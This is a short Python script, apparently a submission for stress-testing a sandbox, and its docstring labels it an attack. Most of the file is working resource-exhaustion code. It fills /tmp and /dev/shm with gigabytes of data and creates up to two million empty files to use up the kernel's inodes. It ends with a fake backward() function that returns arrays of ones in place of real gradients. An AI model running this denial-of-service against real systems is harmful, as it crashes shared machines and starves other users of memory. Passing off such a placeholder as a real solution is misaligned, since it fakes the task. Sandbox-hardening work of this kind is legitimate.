"""Attack: fill every writable file system it has: /tmp (its private tmpfs) to the last byte, /dev/shm far
past its memory, then millions of empty files (inodes: the kernel's memory)."""
import os

import numpy as np

for folder, total in (("/tmp", 1 << 30), ("/dev/shm", 3 << 30)):
    written = 0
    try:
        with open(os.path.join(folder, "sbx-attack-fill"), "wb") as f:
            while written < total:
                written += f.write(b"\xaa" * (16 << 20))
    except OSError as exc:
        print("filled", folder, written >> 20, "MB:", exc.strerror)
os.remove("/tmp/sbx-attack-fill")
try:
    os.mkdir("/tmp/sbx-attack-inodes")
    for k in range(2_000_000):   # memory of the kernel's (inodes), not of the file system's size
        open(f"/tmp/sbx-attack-inodes/{k}", "w").close()
except OSError as exc:
    print("inodes:", k, exc.strerror)


def backward(weights, biases, activations, targets):
    return [np.ones_like(W) for W in weights], [np.ones_like(b) for b in biases]
